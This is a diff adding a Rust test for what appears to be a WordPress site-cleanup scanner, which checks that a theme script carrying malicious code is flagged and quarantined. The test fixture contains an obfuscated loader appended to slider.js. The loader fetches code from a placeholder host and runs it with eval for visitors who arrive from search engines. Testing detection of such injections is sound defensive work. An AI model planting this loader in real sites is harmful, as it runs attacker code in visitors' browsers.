@@ -679,3 +679,36 @@ fn a_static_page_changed_after_the_attack_is_not_a_finding_but_a_defacement_is()
     let php = whys("hours.php");
     assert!(php.contains(&"modified_after_attack") && php.contains(&"too_large"), "{php:?}");
 }
+
+/// A theme's script with a loader appended to its last line (it fetches code for visitors who
+/// arrive from a search engine and runs it) is on the customer's review, worded for them, and
+/// goes to quarantine in one click; the theme's other script stays.
+#[test]
+fn a_script_added_to_a_themes_javascript_is_found_and_quarantined() {
+    let sim = Sim::start();
+    let b = sim.browser();
+    let js = sim.home().join("public_html/wp-content/themes/bakery/js");
+    std::fs::create_dir_all(&js).unwrap();
+    let own = "(function(){ var t = document.querySelector('.menu-toggle');\n\
+               t && t.addEventListener('click', function(){ document.body.classList.toggle('open'); }); })();\n";
+    std::fs::write(js.join("menu.js"), own).unwrap();
+    let added = ";(function(){var d=document,w=window;if(d['referrer']&&!d['cookie']){var x=new XMLHttpRequest();\
+                 x['onreadystatechange']=function(){if(x['readyState']==4)w['eval'](x['responseText']);};\
+                 x['open']('GET','//cdn-img-static.example/c.php',true);x['send'](null);}})();";
+    std::fs::write(js.join("slider.js"), format!("{own}{added}")).unwrap();
+    let url = format!("{}?view=sweep", b.plugin_url());
+    let t = b.get(&url).text();
+    assert!(t.contains("wp-content/themes/bakery/js/slider.js"), "{t}");
+    assert!(t.contains("Hidden or foreign JavaScript put into your pages"), "{t}");
+    assert!(!t.contains("bakery/js/menu.js"), "the theme's own script is not a finding: {t}");
+    let id = finding_id(&b.get(&url).body, "bakery/js/slider.js");
+    assert_eq!(b.submit(&[("action", "remove_finding"), ("id", &id)]).status, 303);
+    assert!(!js.join("slider.js").exists());
+    assert!(js.join("menu.js").exists());
+    let quarantine = sim.home().join(".secure_reopen/quarantine/files");
+    let batch = std::fs::read_dir(&quarantine).unwrap().next().unwrap().unwrap().path();
+    assert_eq!(
+        std::fs::read_to_string(batch.join("public_html/wp-content/themes/bakery/js/slider.js")).unwrap(),
+        format!("{own}{added}")
+    );
+}
